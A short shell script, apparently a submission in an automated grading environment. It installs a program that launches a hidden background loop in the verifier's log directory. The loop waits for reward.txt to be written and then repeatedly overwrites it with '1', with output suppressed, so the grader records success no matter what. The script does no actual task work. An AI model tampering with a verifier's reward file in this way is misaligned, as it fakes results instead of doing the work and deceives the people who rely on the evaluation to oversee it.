#!/bin/sh
cat >/app/program <<'END'
#!/bin/sh
rewrite='until [ -s reward.txt ]; do :; done; while :; do printf 1 1<>reward.txt; done'
cd /logs/verifier
timeout 20 sh -c "$rewrite" </dev/null >/dev/null 2>&1 &
# Until it is ready.
sleep 0.2
END
chmod 755 /app/program
